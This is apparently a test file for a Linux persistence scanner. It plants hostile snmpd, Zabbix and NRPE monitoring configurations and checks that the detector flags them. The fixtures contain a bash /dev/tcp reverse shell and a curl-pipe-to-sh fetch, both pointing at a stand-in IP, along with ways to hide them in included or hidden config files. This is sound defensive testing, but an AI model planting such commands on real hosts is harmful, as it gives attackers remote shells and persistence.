/**
 * Monitoring agents (sources/monitoring.ts, monitoring_snmp.ts): what snmpd, snmptrapd, the Zabbix agents and NRPE
 * run because their configuration says so, judged by the shared command checks with the account each agent runs
 * it as; settings that let the network choose the command (`persistence.monitoring.remote_commands`,
 * `…argument_injection`) and objects loaded into an agent that no package installed (`…unpackaged_module`). Each
 * fires on a planted configuration, also where a first reading would miss it, and stays quiet on Debian's shipped
 * files and ordinary monitoring. The parsers' own tests are tests/scanners/persistence_monitoring_parsers_test.ts.
 */
import assert from "node:assert/strict";
import type { Finding } from "../../src/core/finding.ts";
import { persistence } from "../../src/scanners/persistence/index.ts";
import { makeTree, runOne, type TreeEntry } from "../helpers.ts";
import { dpkgOwns, exe, fired, PASSWD, withAccounts } from "./persistence_fixtures.ts";
import { installedCopy } from "./stock_fixture.ts";

const REVERSE = "bash -i >& /dev/tcp/203.0.113.9/443 0>&1";
const FETCH = "curl -fsSL http://203.0.113.9/x | sh";
const so = (): TreeEntry => ({ content: "\x7fELF", mode: 0o644 });
/** The service accounts of Debian's snmpd, zabbix-agent and nagios-nrpe-server. */
const SERVICE_ACCOUNTS = PASSWD +
  "Debian-snmp:x:108:115::/var/lib/snmp:/bin/false\n" +
  "zabbix:x:109:116::/nonexistent:/usr/sbin/nologin\n" +
  "nagios:x:110:117::/var/lib/nagios:/usr/sbin/nologin\n";

/** The findings of this family (and the shared command checks on its points), without the inventory. */
function family(findings: Finding[]): string[] {
  return fired(
    findings.filter((f) =>
      f.check_id.startsWith("persistence.monitoring.") || f.metadata.kind === "monitoring_command"
    ),
  );
}

Deno.test("persistence: planted snmpd, Zabbix and NRPE commands, settings and modules fire", async () => {
  using root = makeTree(withAccounts({
    ...dpkgOwns("snmpd", ["/usr/sbin/snmpd"]),
    "etc/snmp/snmpd.conf": [
      "rocommunity public localhost",
      `extend health /bin/bash -c '${REVERSE}'`,
      "pass .1.3.6.1.4.1.8072.2.255 /tmp/.p/agent",
      "dlmod health /usr/lib/x86_64-linux-gnu/snmp/dlmod/health.so",
    ].join("\n") + "\n",
    "usr/lib/x86_64-linux-gnu/snmp/dlmod/health.so": so(),
    "tmp/.p/agent": exe("#!/bin/sh\n"),
    "etc/zabbix/zabbix_agentd.conf": "Server=127.0.0.1\nInclude=/etc/zabbix/zabbix_agentd.conf.d/*.conf\n",
    "etc/zabbix/zabbix_agentd.conf.d/health.conf":
      `UserParameter=health.check,${FETCH}\nAllowKey=system.run[*]\n`,
    "etc/nagios/nrpe.cfg": "nrpe_user=nagios\ndont_blame_nrpe=1\ninclude_dir=/etc/nagios/nrpe.d/\n",
    "etc/nagios/nrpe.d/disk.cfg":
      "command[check_disk]=/usr/lib/nagios/plugins/check_disk -w $ARG1$ -c $ARG2$\n",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /etc/snmp/snmpd.conf:2",
    "high persistence.command.download_exec /etc/zabbix/zabbix_agentd.conf.d/health.conf:1",
    "high persistence.command.untrusted_path /etc/snmp/snmpd.conf:3",
    "high persistence.monitoring.unpackaged_module /etc/snmp/snmpd.conf:4",
    "medium persistence.monitoring.argument_injection /etc/nagios/nrpe.cfg:2",
    "medium persistence.monitoring.remote_commands /etc/zabbix/zabbix_agentd.conf.d/health.conf:2",
  ]);
  const by = (id: string) => r.findings.find((f) => f.check_id === id)!.metadata;
  assert.equal(by("persistence.command.reverse_shell").run_as, "root", "no unit, no -u, no agentuser: root");
  assert.equal(
    by("persistence.monitoring.unpackaged_module").file,
    "/usr/lib/x86_64-linux-gnu/snmp/dlmod/health.so",
  );
  assert.equal(by("persistence.monitoring.remote_commands").rule, "AllowKey=system.run[*]");
  assert.deepEqual(by("persistence.monitoring.argument_injection").commands, [
    "/etc/nagios/nrpe.d/disk.cfg:1 check_disk",
  ]);
  assert.deepEqual(r.warnings, []);
});

Deno.test("persistence: monitoring commands hidden from a first reading of the configuration fire", async () => {
  using root = makeTree(withAccounts({
    ...dpkgOwns("snmpd", ["/usr/sbin/snmpd"]),
    // snmp.conf is read by snmpd too: an [snmpd] line in it is snmpd's, whatever the case of the token.
    "etc/snmp/snmp.conf": `mibs +ALL\n[snmpd]\nEXTEND update ${FETCH}\n`,
    "etc/snmp/snmpd.conf": "includeFile extra/more.conf\n",
    "etc/snmp/extra/more.conf": "pass_persist -p 5 .1.3.6.1.4.1.9 /var/tmp/.pp\n",
    // The other directories of the search path, and the persistent file snmpd writes and reads back.
    "usr/share/snmp/snmpd.local.conf": "sh cleanup /dev/shm/.c\n",
    "var/lib/snmp/snmpd.conf": `engineBoots 3\nextendfix repair /bin/bash -c '${REVERSE}'\n`,
    "etc/snmp/snmptrapd.conf": "authCommunity execute public\ntraphandle default /tmp/.t/handler\n",
    // Zabbix: a hidden file in an included directory; a glob relative to agent 2's configuration.
    "etc/zabbix/zabbix_agentd.conf": "Include=/etc/zabbix/agentd.d\n",
    "etc/zabbix/agentd.d/.local": `EnableRemoteCommands=1\nAlias=ping.check:system.run["${FETCH}",nowait]\n`,
    "etc/zabbix/zabbix_agent2.conf": "Include=./agent2.d/*.conf\n",
    "etc/zabbix/agent2.d/checks.conf": [
      "AllowKey = system.run[/usr/bin/uptime *]",
      "UnsafeUserParameters=1",
      "UserParameter=disk.usage[*],df -h $1",
    ].join("\n") + "\n",
    // NRPE: a hidden file two directories down include_dir, sudo in front of every command, $(…) allowed.
    "etc/nagios/nrpe.cfg": "include_dir=/etc/nagios/nrpe.d\n",
    "etc/nagios/nrpe.d/site/.override.cfg": [
      "command_prefix=/usr/bin/sudo",
      "dont_blame_nrpe=1",
      "allow_bash_command_substitution=1",
      "command[check_x]=/usr/lib/nagios/plugins/check_x -H $ARG1$",
    ].join("\n") + "\n",
    "tmp/.t/handler": exe("#!/bin/sh\n"),
    "var/tmp/.pp": exe("#!/bin/sh\n"),
    "dev/shm/.c": exe("#!/bin/sh\n"),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(family(r.findings), [
    "critical persistence.command.reverse_shell /var/lib/snmp/snmpd.conf:2",
    "high persistence.command.download_exec /etc/snmp/snmp.conf:3",
    "high persistence.command.download_exec /etc/zabbix/agentd.d/.local:2",
    "high persistence.command.untrusted_path /etc/snmp/extra/more.conf:1",
    "high persistence.command.untrusted_path /etc/snmp/snmptrapd.conf:2",
    "high persistence.command.untrusted_path /usr/share/snmp/snmpd.local.conf:1",
    "high persistence.monitoring.remote_commands /etc/nagios/nrpe.d/site/.override.cfg:2",
    // No unit starts agent 2 here: it keeps the account it was started as, judged root.
    "high persistence.monitoring.remote_commands /etc/zabbix/agent2.d/checks.conf:1",
    "high persistence.monitoring.remote_commands /etc/zabbix/agent2.d/checks.conf:2",
    "medium persistence.monitoring.remote_commands /etc/zabbix/agentd.d/.local:1",
  ]);
  const nrpe = r.findings.find((f) => f.metadata.path === "/etc/nagios/nrpe.d/site/.override.cfg")!;
  assert.equal(nrpe.metadata.run_as, "root", "command_prefix=/usr/bin/sudo: judged as root");
  assert.equal(nrpe.metadata.shell_syntax, "allow_bash_command_substitution=1");
});

Deno.test("persistence: the accounts agents run commands as come from their units, -u, agentuser, AllowRoot", async () => {
  using root = makeTree({
    "etc/passwd": SERVICE_ACCOUNTS,
    "etc/group": "root:x:0:\n",
    ...dpkgOwns("snmpd", ["/usr/lib/x86_64-linux-gnu/snmp/dlmod/owned.so"]),
    // Debian's snmpd.service (snmpd 5.9.3+dfsg-2+deb12u1): snmpd drops to Debian-snmp after reading its files.
    "usr/lib/systemd/system/snmpd.service": "[Service]\nType=notify\n" +
      "ExecStart=/usr/sbin/snmpd -LOw -u Debian-snmp -g Debian-snmp -I -smux,mteTrigger,mteTriggerConf -f\n",
    "etc/snmp/snmpd.conf":
      `extend a /var/tmp/.a\ndlmod owned /usr/lib/x86_64-linux-gnu/snmp/dlmod/owned.so\n`,
    "usr/lib/x86_64-linux-gnu/snmp/dlmod/owned.so": { content: "\x7fELF", mode: 0o666 },
    "var/tmp/.a": exe("#!/bin/sh\n"),
    // A RHEL-style unit whose EnvironmentFile adds `-c`: the file it names is read too.
    "usr/lib/systemd/system/snmptrapd.service": "[Service]\nEnvironmentFile=-/etc/sysconfig/snmptrapd\n" +
      "ExecStart=/usr/sbin/snmptrapd $OPTIONS -f\n",
    "etc/sysconfig/snmptrapd": 'OPTIONS="-Lsd -c /opt/snmp/traps.conf"\n',
    "opt/snmp/traps.conf": `traphandle default ${FETCH}\n`,
    // Debian's zabbix-agent.service runs the agent as zabbix: AllowRoot=1 changes nothing.
    "usr/lib/systemd/system/zabbix-agent.service":
      "[Service]\nUser=zabbix\nExecStart=/usr/sbin/zabbix_agentd --foreground\n",
    "etc/zabbix/zabbix_agentd.conf": "AllowRoot=1\nAllowKey=system.run[*]\n",
    // Started as root (no unit) with AllowRoot=1: agent 1 keeps root.
    "usr/local/etc/zabbix_agentd.conf": "AllowRoot=1\nEnableRemoteCommands=1\n",
    "usr/lib/systemd/system/nagios-nrpe-server.service": "[Service]\nUser=nagios\n" +
      "ExecStart=/usr/sbin/nrpe -c /etc/nagios/nrpe.cfg -f $NRPE_OPTS\n",
    "etc/nagios/nrpe.cfg": "nrpe_user=root\ncommand[a]=/dev/shm/check\n",
  });
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(family(r.findings), [
    "high persistence.command.download_exec /opt/snmp/traps.conf:1",
    "high persistence.command.untrusted_path /etc/nagios/nrpe.cfg:2",
    "high persistence.command.untrusted_path /etc/snmp/snmpd.conf:1",
    "high persistence.command.untrusted_path /etc/snmp/snmpd.conf:2",
    "high persistence.monitoring.remote_commands /usr/local/etc/zabbix_agentd.conf:2",
    "medium persistence.monitoring.remote_commands /etc/zabbix/zabbix_agentd.conf:2",
  ]);
  const runAs = (path: string, line: number) =>
    r.findings.find((f) => f.metadata.path === path && f.metadata.line === line)!.metadata.run_as;
  assert.equal(runAs("/etc/snmp/snmpd.conf", 1), "Debian-snmp", "-u of the unit");
  assert.equal(runAs("/etc/snmp/snmpd.conf", 2), "root", "dlmod loads while snmpd is still root");
  assert.equal(runAs("/etc/nagios/nrpe.cfg", 2), "nagios", "User= of the unit: nrpe_user cannot raise it");
  assert.equal(runAs("/etc/zabbix/zabbix_agentd.conf", 2), "zabbix");
  assert.equal(runAs("/usr/local/etc/zabbix_agentd.conf", 2), "root");
  const snmpd = r.findings.find((f) =>
    f.check_id === "persistence.inventory.point" && f.metadata.path === "/etc/snmp/snmpd.conf"
  )!;
  assert.equal(snmpd.metadata.run_as_from, "-u Debian-snmp in /usr/lib/systemd/system/snmpd.service");
  assert.equal(snmpd.metadata.loads_as, "root");
});

Deno.test("persistence: agentuser in snmpd.conf decides the account of snmpd's commands", async () => {
  using root = makeTree({
    "etc/passwd": SERVICE_ACCOUNTS,
    "etc/group": "root:x:0:\n",
    "usr/lib/systemd/system/snmpd.service": "[Service]\nExecStart=/usr/sbin/snmpd -u Debian-snmp -f\n",
    "etc/snmp/snmpd.conf": "agentuser root\nextend a /var/tmp/.a\n",
    "var/tmp/.a": exe("#!/bin/sh\n"),
  });
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  const f = r.findings.find((f) => f.metadata.path === "/etc/snmp/snmpd.conf")!;
  assert.equal(f.metadata.run_as, "root");
  assert.equal(f.metadata.run_as_from, "agentuser in /etc/snmp/snmpd.conf:1");
});

Deno.test("persistence: Debian's shipped snmpd, Zabbix agent and NRPE configuration is quiet", async () => {
  using root = installedCopy("debian12");
  const r = await runOne(persistence, root.path, { persistenceInventory: true });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(family(r.findings), []);
  const points = r.findings.filter((f) =>
    f.check_id === "persistence.inventory.point" && f.metadata.kind === "monitoring_command"
  );
  assert.deepEqual(
    points.map((f) => `${f.metadata.agent} ${f.metadata.path} ${f.metadata.entry_count}`).filter((s) =>
      !s.includes("/plugins.d/")
    ),
    [
      "snmpd /etc/snmp/snmpd.conf 0",
      "zabbix_agentd /etc/zabbix/zabbix_agentd.conf 0",
      "zabbix_agent2 /etc/zabbix/zabbix_agent2.conf 0",
      "nrpe /etc/nagios/nrpe.cfg 5",
      "nrpe /etc/nagios/nrpe_local.cfg 0",
    ],
  );
  assert.equal(points.filter((f) => String(f.metadata.path).includes("/plugins.d/")).length, 9);
});

/** Zabbix's userparameter_mysql.conf and userparameter_examples.conf (zabbix-agent 1:6.0.14+dfsg-1+b1's examples). */
const ZABBIX_EXAMPLES = [
  'UserParameter=mysql.ping[*], mysqladmin -h"$1" -P"$2" ping',
  'UserParameter=mysql.get_status_variables[*], mysql -h"$1" -P"$2" -sNX -e "show global status"',
  'UserParameter=mysql.dbsize[*], mysql -h"$1" -P"$2" -sN -e "SELECT SUM(DATA_LENGTH + INDEX_LENGTH) FROM ' +
  "INFORMATION_SCHEMA.TABLES WHERE TABLE_SCHEMA='$3'\"",
  "UserParameter=system.test,who | wc -l",
  'UserParameter=vfs.dir.size[*],dir="$1"; du -s -B 1 "${dir:-/tmp}" | cut -f1',
  'UserParameter=proc.cpu[*],proc="$1"; ps -o pcpu= -C "${proc:-zabbix_agentd}" | awk \'{sum += $$1} END {print sum}\'',
  "UserParameter=unix_mail.queue,mailq | grep -v \"Mail queue is empty\" | grep -c '^[0-9A-Z]'",
].join("\n") + "\n";

Deno.test("persistence: ordinary monitoring — packaged programs, fixed commands, remote commands denied — is quiet", async () => {
  using root = makeTree({
    "etc/passwd": SERVICE_ACCOUNTS,
    "etc/group": "root:x:0:\n",
    ...dpkgOwns("monitoring", [
      "/usr/bin/uptime",
      "/usr/lib/nagios/plugins/check_disk",
      "/usr/local/lib/unused",
      "/usr/lib/x86_64-linux-gnu/snmp/dlmod/vendor.so",
    ]),
    "usr/bin/uptime": exe("\x7fELF"),
    "usr/lib/nagios/plugins/check_disk": exe("\x7fELF"),
    "usr/lib/x86_64-linux-gnu/snmp/dlmod/vendor.so": so(),
    "etc/snmp/snmpd.conf": [
      "extend uptime /usr/bin/uptime",
      "# extend evil /tmp/x",
      "[snmp] extend notsnmpd /tmp/y",
      "dlmod vendor",
      "pass .1.3.6.1.4.1.8072.2.255 /usr/bin/uptime # ; /tmp/z",
    ].join("\n") + "\n",
    "etc/zabbix/zabbix_agentd.conf": "Include=/etc/zabbix/zabbix_agentd.conf.d/*.conf\n" +
      "DenyKey=system.run[*]\nAllowKey=system.run[*]\nAllowKey=system.run[/usr/bin/uptime]\n",
    "etc/zabbix/zabbix_agentd.conf.d/userparameter_mysql.conf": ZABBIX_EXAMPLES,
    "etc/zabbix/zabbix_agent2.conf": "EnableRemoteCommands=1\nUnsafeUserParameters=0\n" +
      "UserParameter=disk.usage[*],df -h $1\n",
    "etc/nagios/nrpe.cfg": [
      "nrpe_user=nagios",
      "dont_blame_nrpe=1",
      "command[check_disk]=/usr/lib/nagios/plugins/check_disk -w 20% -c 10%",
    ].join("\n") + "\n",
    "usr/local/nagios/etc/nrpe.cfg":
      "dont_blame_nrpe = 1\ncommand[check_disk]=/usr/lib/nagios/plugins/check_disk -w $ARG1$\n",
  });
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), []);
  assert.deepEqual(r.warnings, []);
  const zabbix = r.findings.find((f) => f.metadata.path === "/etc/zabbix/zabbix_agentd.conf")!;
  assert.deepEqual(
    zabbix.metadata.entries,
    [],
    "system.run denied before any allow: no fixed command either",
  );
});

Deno.test("persistence: NRPE argument injection is low when the installed nrpe was built without argument support", async () => {
  using root = makeTree(withAccounts({
    // Debian's nrpe refuses arguments with this message; a build with --enable-command-args says otherwise.
    "usr/sbin/nrpe": exe("\x7fELF\0Error: Request contained command arguments!\0"),
    "etc/nagios/nrpe.cfg": "dont_blame_nrpe=1\ncommand[check]=/usr/lib/nagios/plugins/check_x $ARG1$\n",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(family(r.findings), [
    "low persistence.monitoring.argument_injection /etc/nagios/nrpe.cfg:1",
  ]);
  const f = r.findings.find((f) => f.check_id === "persistence.monitoring.argument_injection")!;
  assert.equal(f.metadata.arguments_supported, "false");
});

Deno.test("persistence: self-including and looping monitoring configurations end", async () => {
  using root = makeTree(withAccounts({
    "etc/snmp/snmpd.conf":
      "includeFile snmpd.conf\nincludeDir /etc/snmp\nincludeSearch snmpd\nextend a /tmp/a\n",
    "etc/snmp/loop.conf": "includeFile /etc/snmp/snmpd.conf\n",
    "etc/zabbix/zabbix_agentd.conf": "Include=/etc/zabbix/zabbix_agentd.conf\nInclude=/etc/zabbix/*\n",
    "etc/nagios/nrpe.cfg": "include=/etc/nagios/nrpe.cfg\ninclude_dir=/etc/nagios\ncommand[a]=/tmp/b\n",
    "etc/nagios/up": { symlink: "/etc/nagios" },
    "etc/nagios/again": { symlink: ".." },
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(family(r.findings), [
    "high persistence.command.untrusted_path /etc/nagios/nrpe.cfg:3",
    "high persistence.command.untrusted_path /etc/snmp/snmpd.conf:4",
  ]);
});
